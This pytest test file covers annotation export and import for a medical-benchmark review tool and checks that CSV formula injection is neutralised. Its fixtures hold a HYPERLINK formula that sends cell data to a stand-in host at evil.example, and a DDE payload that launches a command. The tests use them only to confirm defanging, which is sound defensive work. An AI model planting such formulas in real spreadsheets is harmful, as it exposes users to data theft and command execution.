"""Annotation export: columns, CSV-injection neutralising, round trip export -> import -> export, CLI."""
from __future__ import annotations

import csv
import io
import shutil

import pandas as pd
import pytest

from medviz import auth
from medviz.annotations import Annotation, close_writer, current_annotations, get_writer
from medviz.cli import main
from medviz.errors import MedvizError
from medviz.export import (ANNOTATION_COLUMNS, NO_COMPUTED_SIM, export_annotations, import_annotations, neutralise,
                           read_export, unneutralise)
from medviz.store import Store

MC, GMAI = "sample-mediconfusion", "sample-gmai"
BLIND = "image-blind-baseline"
IGNORED = "Visual confusion/Image ignored"
DETAIL = "Perceptual error/Detail missed"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
TRICKY = [HYPERLINK, "+1 then", "-2 minus", "@SUM(A1)", "\tTab first", "\rCR first", "'=already quoted",
          "''+two quotes", "plain, with commas", 'quotes "inside"\nand a\nnewline', "Ünïcödé – 肺 ✓",
          "'just quote"]
OWNER = auth.file_owner()           # restoring an export keeps its authors: the file's owner (an admin) imports


@pytest.fixture(scope="module")
def demo_file(sample_store_file):
    return sample_store_file


def _copy(demo_file, tmp_path, name):
    path = str(tmp_path / name)
    shutil.copy(demo_file, path)
    return path


@pytest.fixture
def annotated(demo_file, tmp_path):
    """A demo store with tricky annotations (formula-like text, commas, quotes, newlines, unicode)."""
    s = Store(_copy(demo_file, tmp_path, "src.duckdb"))
    w = get_writer(s)
    for k, text in enumerate(TRICKY):
        pid = f"s00{1 + k % 8}"
        a = w.save(Annotation(MC, "pair", pid, [IGNORED, DETAIL] if k % 3 == 0 else [IGNORED], f"rev {k % 3}",
                              model=BLIND if k % 2 else None, rationale=text, confidence=1 + k % 5),
                   auth.local(f"rev {k % 3}"))
        if k % 4 == 0:
            w.save(a.edit(rationale=text + " (edited)"), auth.local(f"rev {k % 3}"))
    w.save(Annotation(GMAI, "item", "3", ["Answer key disputed"], "=cmd|' /C calc'!A0", proposed_answer="-C",
                      rationale="key", confidence=5), auth.local("=cmd|' /C calc'!A0"))
    gone = w.save(Annotation(GMAI, "item", "4", ["Refusal"], "rev 1"), auth.local("rev 1"))
    w.retract(gone.annotation_id, auth.local("rev 1"))
    yield s
    close_writer(s)
    s.close()


def test_neutralise_is_exactly_undone():
    for text in TRICKY + ["", "safe", "a=b", "'", "''"]:
        out = neutralise(text)
        assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert unneutralise(out) == text


def test_export_rows_columns_and_injection(annotated):
    data = export_annotations(annotated)
    assert isinstance(data, bytes)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    header, body = rows[0], rows[1:]
    for col in ("benchmark_id", "target_id", "image_ids", "modality", "categories", "department", "model",
                "raw_answer", "parsed_answer", "correct_answer", "tag", "taxonomy_version", "reviewer",
                "confidence", "rationale", "created_at_utc", "updated_at_utc", "biomedclip_sim_benchmark",
                "dino_sim_benchmark", NO_COMPUTED_SIM, "medviz_version"):
        assert col in header
    # one row per current annotation x tag; the retracted annotation is absent
    cur = current_annotations(annotated)
    assert len(body) == sum(len(t) for t in cur["tags"])
    assert not any(r[header.index("target_id")] == "4" for r in body)
    # no cell a spreadsheet would run as a formula
    for r in body:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    rationales = [r[header.index("rationale")] for r in body]
    assert any(r.startswith("'" + HYPERLINK) for r in rationales)
    assert "'+1 then" in rationales and "'-2 minus" in rationales and "'''+two quotes" in rationales
    assert "'=cmd|' /C calc'!A0" in [r[header.index("reviewer")] for r in body]
    # the model's answers and the key sit beside the tag
    blind = [r for r in body if r[header.index("model")] == BLIND and r[header.index("target_id")] == "s002"]
    assert blind and blind[0][header.index("correct_answer")] == "A;B"
    assert blind[0][header.index("parsed_answer")].count(";") == 1
    assert blind[0][header.index("item_ids")] == "s002-1;s002-2"
    # newlines, commas, quotes and unicode survive a standard CSV reader
    df = read_export_bytes(data)
    assert {t.removesuffix(" (edited)") for t in df["rationale"]} == set(TRICKY) | {"key"}


def read_export_bytes(data: bytes) -> pd.DataFrame:
    import tempfile
    with tempfile.NamedTemporaryFile(suffix=".csv", delete=False) as f:
        f.write(data)
    return read_export(f.name)


def test_round_trip_export_import_export_is_identical(annotated, demo_file, tmp_path):
    first = tmp_path / "first.csv"
    export_annotations(annotated, str(first))
    back = Store(_copy(demo_file, tmp_path, "back.duckdb"))       # same benchmarks, no annotations
    try:
        n = import_annotations(back, str(first), by=OWNER)
        assert n == len(current_annotations(annotated))
        second = export_annotations(back)
        assert second == first.read_bytes()
        # the restored rows are the same annotations, field by field
        cols = ["annotation_id", "revision", "tags", "rationale", "reviewer", "model", "confidence",
                "proposed_answer", "created_at", "updated_at"]
        a = current_annotations(annotated).sort_values("annotation_id")[cols].reset_index(drop=True)
        b = current_annotations(back).sort_values("annotation_id")[cols].reset_index(drop=True)
        pd.testing.assert_frame_equal(a, b)
        # importing the same file again adds nothing and says why
        with pytest.raises(MedvizError, match="already in the database"):
            import_annotations(back, str(first), by=OWNER)
        assert len(current_annotations(back)) == n
    finally:
        close_writer(back)
        back.close()


def test_round_trip_into_an_empty_database_keeps_annotation_columns(annotated, tmp_path):
    first = tmp_path / "first.csv"
    export_annotations(annotated, str(first))
    with Store(str(tmp_path / "empty.duckdb")) as empty:
        import_annotations(empty, str(first), by=OWNER)
        again = read_export_bytes(export_annotations(empty))
        close_writer(empty)
    orig = read_export(str(first))
    pd.testing.assert_frame_equal(orig[ANNOTATION_COLUMNS], again[ANNOTATION_COLUMNS])


def test_parquet_round_trip_and_filters(annotated, demo_file, tmp_path):
    out = tmp_path / "a.parquet"
    export_annotations(annotated, str(out), fmt="parquet")
    df = pd.read_parquet(out)
    assert "+1 then" in set(df["rationale"])              # parquet is not a spreadsheet: text kept as is
    back = Store(_copy(demo_file, tmp_path, "back.duckdb"))
    try:
        import_annotations(back, str(out), by=OWNER)
        assert export_annotations(back, fmt="parquet") == out.read_bytes()
    finally:
        close_writer(back)
        back.close()
    only_blind = read_export_bytes(export_annotations(annotated, model=BLIND))
    assert set(only_blind["model"]) <= {BLIND, "(all models)"} and BLIND in set(only_blind["model"])
    ct = read_export_bytes(export_annotations(annotated, modality="ct"))
    assert len(ct) and all("CT" in m.split(" | ") for m in ct["modality"])
    assert set(read_export_bytes(export_annotations(annotated, benchmark_id=GMAI))["benchmark_id"]) == {GMAI}
    with pytest.raises(MedvizError):
        export_annotations(annotated, fmt="xlsx")


def test_import_errors_name_file_row_and_field(annotated, tmp_path):
    good = tmp_path / "good.csv"
    export_annotations(annotated, str(good))
    df = pd.read_csv(good, dtype=str, keep_default_na=False)
    bad = df.copy()
    bad.loc[bad["annotation_id"] == bad.loc[2, "annotation_id"], "confidence"] = "9"
    p = tmp_path / "bad.csv"
    bad.to_csv(p, index=False, lineterminator="\r\n")
    with Store(str(tmp_path / "e.duckdb")) as s:
        with pytest.raises(MedvizError) as e:
            import_annotations(s, str(p), by=OWNER)
        assert "bad.csv" in str(e.value) and e.value.field == "confidence"
        bad = df.copy()
        bad.loc[1, "reviewer"] = "someone else"                  # rows of one annotation must agree
        bad.to_csv(p, index=False, lineterminator="\r\n")
        if (df["annotation_id"] == df.loc[1, "annotation_id"]).sum() > 1:
            with pytest.raises(MedvizError, match="disagree on 'reviewer'"):
                import_annotations(s, str(p), by=OWNER)
        bad = df.copy()
        bad.loc[0, "tag"] = "Not a tag"
        bad.to_csv(p, index=False, lineterminator="\r\n")
        with pytest.raises(MedvizError, match="unknown tag"):
            import_annotations(s, str(p), by=OWNER)
        with pytest.raises(MedvizError, match="missing column"):
            pd.DataFrame({"x": [1]}).to_csv(p, index=False) or import_annotations(s, str(p), by=OWNER)
        assert current_annotations(s).empty                     # all or nothing
        close_writer(s)


def test_cli_export_and_import(annotated, demo_file, tmp_path, capsys):
    path = annotated.path
    close_writer(annotated)
    annotated.close()                                         # the CLI opens the file itself
    out = tmp_path / "cli.csv"
    assert main(["export", "annotations", "--db", path, "--out", str(out), "--model", BLIND]) == 0
    assert "exported" in capsys.readouterr().out
    target = _copy(demo_file, tmp_path, "cli_target.duckdb")
    assert main(["import", "annotations", str(out), "--db", target]) == 0
    assert "imported" in capsys.readouterr().out
    out2 = tmp_path / "cli2.csv"
    assert main(["export", "annotations", "--db", target, "--out", str(out2)]) == 0
    assert out2.read_bytes() == out.read_bytes()
    assert main(["import", "annotations", str(tmp_path / "missing.csv"), "--db", target]) == 2
    assert "file not found" in capsys.readouterr().err


def test_leading_nul_is_neutralised_in_sql_and_undone_on_import(demo_file, tmp_path):
    s = Store(_copy(demo_file, tmp_path, "nul.duckdb"))
    try:
        w = get_writer(s)
        w.save(Annotation(MC, "pair", "s001", [IGNORED], "rev", rationale="\x00=1+1", confidence=2), auth.local("rev"))
        data = export_annotations(s)
        body = list(csv.reader(io.StringIO(data.decode("utf-8"))))
        rationale = body[1][body[0].index("rationale")]
        assert rationale == "'\x00=1+1" and neutralise("\x00=1+1") == rationale
        assert list(read_export_bytes(data)["rationale"]) == ["\x00=1+1"]
        # the SQL rule and the Python rule agree on every tricky cell
        for text in TRICKY + ["\x00", "'\x00", "a\x00"]:
            got = s.cursor().execute("SELECT regexp_replace(?, ?, '''\\1')",
                                     [text, sql_rule()]).fetchone()[0]
            assert got == neutralise(text)
    finally:
        close_writer(s)
        s.close()


def sql_rule() -> str:
    from medviz.store.annotation_export import NEEDS_QUOTE_RE
    return NEEDS_QUOTE_RE


# --- paper-ready columns (issue 13) -------------------------------------------------------------------------

def test_paper_columns_question_outcome_tag_group_and_review_url(annotated):
    from medviz.export import COLUMNS, annotation_table
    df = read_export_bytes(export_annotations(annotated, base_url="https://medviz.example/app/"))
    for col in ("question", "options", "outcome", "tag_group", "tag", "review_url", "encoder_id",
                "encoder_weights_sha256", "encoder_similarity"):
        assert col in df.columns
    assert list(df.columns) == COLUMNS
    # tag group and sub-tag are separate; a top-level tag has an empty sub-tag
    ign = df[(df["tag_group"] == "Visual confusion") & (df["tag"] == "Image ignored")]
    assert len(ign) and not df["tag"].str.contains("/").any()
    assert set(df.loc[df["tag_group"] == "Answer key disputed", "tag"]) == {""}
    # the outcome is the Errors page's label for the unit and the annotation's model, from the store
    cur = annotated.cursor()
    for r in df[df["model"] == BLIND].itertuples():
        all_correct, confused, invalid = cur.execute(
            "SELECT all_correct, confused, any_invalid FROM unit_outcomes WHERE benchmark_id = ? AND unit_id = ? "
            "AND model = ?", [r.benchmark_id, r.target_id, r.model]).fetchone()
        want = ("correct" if all_correct else "confused" if confused else "invalid" if invalid else "wrong")
        assert r.outcome == want
        # the answered and correct letters per image agree with the outcome
        given, key = r.parsed_answer.split(";"), r.correct_answer.split(";")
        assert (given == key) == (want == "correct")
        if want == "confused":
            assert len(set(given)) == 1
    assert set(df.loc[df["model"] == "(all models)", "outcome"]) == {""}     # no model: no outcome
    # question and options come from the benchmark
    q = cur.execute("SELECT question, options FROM items WHERE benchmark_id = ? AND pair_id = 's002' AND slot = 1",
                    [MC]).fetchone()
    row = df[(df["target_id"] == "s002")].iloc[0]
    assert row["question"] == q[0]
    import json
    assert row["options"] == " | ".join(f"{k}: {v}" for k, v in json.loads(q[1]).items())
    # review_url opens the unit (and the model) in the app, under the configured base URL
    assert row["review_url"].startswith("https://medviz.example/app/review?b=sample-mediconfusion&pair=s002")
    blind_url = df.loc[(df["model"] == BLIND), "review_url"].iloc[0]
    assert blind_url.endswith("&m=" + BLIND)
    default = annotation_table(annotated)
    assert default["review_url"].str.startswith("http://localhost:8501/review?").all()


def test_parquet_keeps_native_types(annotated, tmp_path):
    out = tmp_path / "typed.parquet"
    export_annotations(annotated, str(out), fmt="parquet")
    df = pd.read_parquet(out)
    assert pd.api.types.is_integer_dtype(df["confidence"]) and pd.api.types.is_integer_dtype(df["revision"])
    assert pd.api.types.is_datetime64_any_dtype(df["created_at_utc"])
    assert pd.api.types.is_datetime64_any_dtype(df["updated_at_utc"])
    assert pd.api.types.is_float_dtype(df["biomedclip_sim_benchmark"])
    assert pd.api.types.is_float_dtype(df["encoder_similarity"])
    pair = df[df["target_id"] == "s002"].iloc[0]
    assert list(pair["item_ids"]) == ["s002-1", "s002-2"] and list(pair["correct_answer"]) == ["A", "B"]
    assert all(isinstance(o, str) and o[:3] in ("A: ", "B: ") for o in pair["options"])
    # the same rows as the CSV, value for value, once the CSV's text is parsed back
    csv_df = read_export_bytes(export_annotations(annotated))
    assert list(df.columns) == list(csv_df.columns)
    assert [";".join(x) for x in df["item_ids"]] == list(csv_df["item_ids"])
    assert [str(x) for x in df["confidence"]] == list(csv_df["confidence"])
    assert [t.strftime("%Y-%m-%dT%H:%M:%S.%f") for t in df["created_at_utc"]] == list(csv_df["created_at_utc"])


def test_encoder_similarity_carries_encoder_id_and_weights_digest(annotated, clean_encoders):
    from medviz.encoders.embed import compute_embeddings
    compute_embeddings(annotated, MC, "pixels", workers=0)
    df = read_export_bytes(export_annotations(annotated, benchmark_id=MC))
    pairs = df[df["target_type"] == "pair"]
    assert set(pairs["encoder_id"]) == {"pixels"}
    digest = annotated.cursor().execute(
        "SELECT DISTINCT weights_digest FROM embeddings WHERE encoder_id = 'pixels'").fetchall()
    assert [d for (d,) in digest] == list(set(pairs["encoder_weights_sha256"]))
    sims = pairs["encoder_similarity"].astype(float)
    assert sims.between(-1.0001, 1.0001).all()


def test_import_of_an_export_without_tag_group_reads_the_full_tag_path(annotated, tmp_path):
    first = tmp_path / "first.csv"
    export_annotations(annotated, str(first))
    df = pd.read_csv(first, dtype=str, keep_default_na=False)
    old = df.drop(columns=["tag_group"]).assign(
        tag=[f"{g}/{t}" if t else g for g, t in zip(df["tag_group"], df["tag"])])
    p = tmp_path / "old.csv"
    old.to_csv(p, index=False, lineterminator="\r\n")
    with Store(str(tmp_path / "e.duckdb")) as s:
        import_annotations(s, str(p), by=OWNER)
        a = sorted(map(sorted, current_annotations(s)["tags"]))
        close_writer(s)
    assert a == sorted(map(sorted, current_annotations(annotated)["tags"]))


def test_outcomes_export_follows_the_errors_filter(annotated, tmp_path):
    from medviz.export import export_outcomes
    from medviz.readmodels.errors import ErrorFilter
    from medviz.store import views as sqlv
    f = ErrorFilter(outcome="confused")
    csv_df = read_export_bytes(export_outcomes(annotated, MC, error_filter=f))
    want = sqlv.error_counts(annotated.cursor(), MC, None, f.sql_filter())
    assert len(csv_df) == want["rows"] > 0 and set(csv_df["outcome"]) == {"confused"}
    for r in csv_df.itertuples():
        a = r.answered_letters.split(";")
        assert len(a) == 2 and a[0] == a[1]                   # confused: the same letter for both images
    assert csv_df["review_url"].str.contains("&m=").all()
    # everything, with one model: the labels partition the rows like the Errors page counts
    every = ErrorFilter(outcome=None)
    out = tmp_path / "o.parquet"
    export_outcomes(annotated, MC, str(out), fmt="parquet", models=[BLIND], error_filter=every)
    df = pd.read_parquet(out)
    c = sqlv.error_counts(annotated.cursor(), MC, [BLIND], every.sql_filter())
    assert set(df["model"]) == {BLIND} and len(df) == c["rows"]
    assert (df["outcome"] == "correct").sum() == c["correct"]
    assert (df["outcome"] == "confused").sum() == c["confused"]
    assert pd.api.types.is_integer_dtype(df["n_images"])
    assert all(len(x) == 2 for x in df["correct_letters"])
    # a tag filter goes through the annotation index
    tagged = read_export_bytes(export_outcomes(annotated, MC, error_filter=ErrorFilter(outcome=None, tags=[DETAIL])))
    tagged_units = set(current_annotations(annotated, MC).explode("tags").query("tags == @DETAIL")["target_id"])
    assert set(tagged["unit_id"]) == tagged_units


def test_failure_mode_table_csv_markdown_latex(annotated):
    from medviz.annotations.stats import failure_mode_stats
    from medviz.export import export_failure_modes, failure_mode_table
    t = failure_mode_table(annotated, MC)
    ref = failure_mode_stats(annotated, MC, by=("model",))
    assert len(t) == len(ref) and (t["count"] <= t["n"]).all()
    assert ((t["ci_low"] <= t["rate"]) & (t["rate"] <= t["ci_high"])).all()
    csv_t = pd.read_csv(io.BytesIO(export_failure_modes(annotated, MC, fmt="csv")))
    assert list(csv_t.columns) == ["failure_mode", "model", "count", "n", "rate", "ci_low", "ci_high"]
    md = export_failure_modes(annotated, MC, fmt="markdown").decode()
    r = t.iloc[0]
    cell = f"{r['count']}/{r['n']} ({100 * r['rate']:.0f}%"
    assert md.startswith("| failure mode |") and cell in md and "Wilson" in md
    tex = export_failure_modes(annotated, MC, fmt="latex").decode()
    assert "\\begin{tabular}" in tex and "\\%" in tex and cell.replace("%", "\\%") in tex
    with pytest.raises(MedvizError):
        export_failure_modes(annotated, MC, fmt="xlsx")


def test_cli_exports_outcomes_and_failure_mode_tables(annotated, tmp_path, capsys):
    path = annotated.path
    close_writer(annotated)
    annotated.close()
    out = tmp_path / "o.csv"
    assert main(["export", "outcomes", MC, "--db", path, "--out", str(out), "--outcome", "confused"]) == 0
    df = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert len(df) and set(df["outcome"]) == {"confused"}
    for ext, head in (("md", "| failure mode |"), ("tex", "\\begin{table}"), ("csv", "failure_mode,model")):
        p = tmp_path / f"fm.{ext}"
        assert main(["export", "failure-modes", MC, "--db", path, "--out", str(p)]) == 0
        assert p.read_text().startswith(head)
    assert main(["export", "outcomes", "nope", "--db", path, "--out", str(out)]) == 2
    assert "benchmark 'nope' is not in the store" in capsys.readouterr().err


def test_computed_encoder_similarities_join_pair_rows(annotated, monkeypatch):
    """A computed encoder's cosine sits on pair rows with its encoder id and weights digest (issue 13: one
    encoder per export, ``encoder_id`` / ``encoder_weights_sha256`` / ``encoder_similarity``); item rows
    leave them empty."""
    from medviz.annotations import stats
    pairs = annotated.cursor().execute("SELECT pair_id, biomedclip_sim, dino_sim FROM pairs WHERE benchmark_id = ? "
                                       "ORDER BY pair_id", [MC]).df()
    fake = pairs.assign(sim_fake=[0.5 + k / 100 for k in range(len(pairs))])
    fake.attrs["weights_sha256"] = {"fake": "d"}           # the weights the similarities come from

    def fake_sims(store, b):
        if b == MC:
            return fake
        empty = fake.iloc[0:0].drop(columns=["sim_fake"])
        empty.attrs = {}
        return empty
    monkeypatch.setattr(stats, "encoder_similarities", fake_sims)
    annotated.cursor().execute("INSERT INTO embeddings VALUES ('fake', 'd', 'x', 1, [1.0], NULL, 'exact')")
    try:
        df = read_export_bytes(export_annotations(annotated))
    finally:
        annotated.cursor().execute("DELETE FROM embeddings WHERE encoder_id = 'fake'")
    assert NO_COMPUTED_SIM == "encoder_similarity" and NO_COMPUTED_SIM in df.columns
    want = dict(zip(fake["pair_id"], fake["sim_fake"]))
    for r in df.itertuples():
        if r.target_type == "pair":
            assert float(r.encoder_similarity) == pytest.approx(want[r.target_id], abs=1e-6)
            assert (r.encoder_id, r.encoder_weights_sha256) == ("fake", "d")
        else:
            assert (r.encoder_similarity, r.encoder_id, r.encoder_weights_sha256) == ("", "", "")
